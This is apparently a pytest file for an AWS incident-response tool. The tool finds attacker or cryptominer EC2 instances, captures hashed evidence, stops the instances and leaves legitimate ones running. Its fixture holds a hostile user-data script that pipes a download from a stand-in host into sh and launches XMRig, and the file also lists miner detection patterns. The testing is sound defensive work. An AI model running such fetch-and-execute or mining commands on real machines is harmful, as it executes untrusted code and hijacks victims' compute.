"""Attacker EC2 instances in any region: found (launched by the attacker, or a miner in user data or image),
evidence captured without the user data's text, stopped (never terminated); legitimate instances untouched."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import boto3

from actions.ec2 import CaptureInstanceEvidence, DiscoverInstances, StopInstances, mentions_miner
from actions.evidence import verify_bundle
from runner.drill import base_image
from tests.awshelp import context, converge, plan

REGION = "ap-southeast-2"
SECRET = "AKIAZZZZEXAMPLEKEY42"
MINER_DATA = f"#!/bin/bash\nexport AWS_ACCESS_KEY_ID={SECRET}\ncurl -sL https://x.example/t.sh | sh\n./XMRig -o pool:443\n"


def _launch(ec2: Any, user_data: str, n: int = 1) -> list[str]:
    image = base_image(ec2)
    found = ec2.run_instances(ImageId=image, MinCount=n, MaxCount=n, InstanceType="c5.4xlarge", UserData=user_data)
    return [i["InstanceId"] for i in found["Instances"]]


def _run_instances_event(instance_id: str) -> dict[str, Any]:
    return {"eventID": "ev-run-1", "eventTime": "2030-01-01T00:10:00Z", "eventSource": "ec2.amazonaws.com",
            "eventName": "RunInstances", "awsRegion": REGION,
            "userIdentity": {"type": "IAMUser", "userName": "render-farm"},
            "responseElements": {"instancesSet": {"items": [{"instanceId": instance_id}]}}}


def _states(ec2: Any) -> dict[str, str]:
    return {i["InstanceId"]: i["State"]["Name"] for r in ec2.describe_instances()["Reservations"]
            for i in r["Instances"]}


def test_miner_word_match_keeps_look_alikes_apart() -> None:
    patterns = ["xmrig", "t-rex"]
    assert mentions_miner("wget .../xmrig-6.21.tar.gz && ./XMRig", patterns) == "xmrig"
    assert mentions_miner("apt-get install fast-rex-api nginx", patterns) is None
    assert mentions_miner("", patterns) is None


def test_attacker_instances_found_evidenced_and_stopped(aws: boto3.Session, tmp_path: Path) -> None:
    ec2 = aws.client("ec2", region_name=REGION)
    miners = _launch(ec2, MINER_DATA, 2)
    [launched] = _launch(ec2, "#!/bin/bash\nyum -y update\n")  # no miner text, but launched by the attacker
    [legit] = _launch(ec2, "#!/bin/bash\napt-get install -y nginx\n")
    home_legit = _launch(aws.client("ec2"), "#!/bin/bash\necho web\n")
    lambda_event = {"eventID": "ev-fn-1", "eventTime": "2030-01-01T00:12:00Z", "eventSource": "lambda.amazonaws.com",
                    "eventName": "CreateFunction20150331", "awsRegion": "eu-central-1",
                    "requestParameters": {"functionName": "thumbnailer"}}
    ctx = context(aws)
    ctx.evidence_dir = tmp_path / "evidence" / "INC-TEST-1" / "r-test"
    found = plan(DiscoverInstances(), ctx, {"attacker_events": [_run_instances_event(launched), lambda_event]})

    by_id = {i["id"]: i for i in found.outputs["ec2_instances"]}
    assert set(by_id) == {*miners, launched}
    assert "user data names miner pattern xmrig" in by_id[miners[0]]["reason"]
    assert "launched by the attacker's credentials" in by_id[launched]["reason"]
    assert all(i["region"] == REGION for i in by_id.values())
    assert {e["name"] for e in found.outputs["excluded"]} >= {legit, *home_legit}
    [manual] = found.manual
    assert "Lambda function thumbnailer" in manual and "eu-central-1" in manual and "not contain" in manual
    assert "ec2" in ctx.coverage.to_json()["services"][REGION]

    instances = found.outputs["ec2_instances"]
    evidence = plan(CaptureInstanceEvidence(), ctx, {"instances": instances})
    bundle = Path(evidence.outputs["path"])
    assert not any(verify_bundle(bundle).values())  # nothing altered, missing, extra, rewritten or linked
    doc = json.loads((bundle / "ec2" / REGION / f"{miners[0]}.json").read_text())
    text = (bundle / "ec2" / REGION / f"{miners[0]}.json").read_text()
    assert SECRET not in text and "XMRig" not in text  # user data is hashed, never copied
    user_data = doc["user_data"]  # a digest only (the evidence redaction may also have folded it to one string)
    assert (len(user_data["sha256"]) == 64) if isinstance(user_data, dict) else "sha256=" in user_data
    assert doc["instance"]["InstanceId"] == miners[0]
    assert doc["network_interfaces"] and doc["volumes"]

    stop = converge(StopInstances(), ctx, {"instances": instances})
    assert all(c.operation == "ec2:StopInstances" and c.previous == {"State": "running"} for c in stop.changes)
    states = _states(ec2)
    assert all(states[i] == "stopped" for i in by_id)  # stopped, not terminated
    assert states[legit] == "running"
    assert set(_states(aws.client("ec2")).values()) == {"running"}


def test_stop_is_refused_in_a_dry_run(aws: boto3.Session) -> None:
    ec2 = aws.client("ec2", region_name=REGION)
    miners = _launch(ec2, MINER_DATA)
    dry = context(aws, dry_run=True)
    planned = plan(StopInstances(), dry, {"instances": [{"id": miners[0], "region": REGION}]})
    import pytest

    from runner.errors import DryRunViolation

    with pytest.raises(DryRunViolation):
        StopInstances().apply(dry, planned.changes[0])
    assert _states(ec2)[miners[0]] == "running"
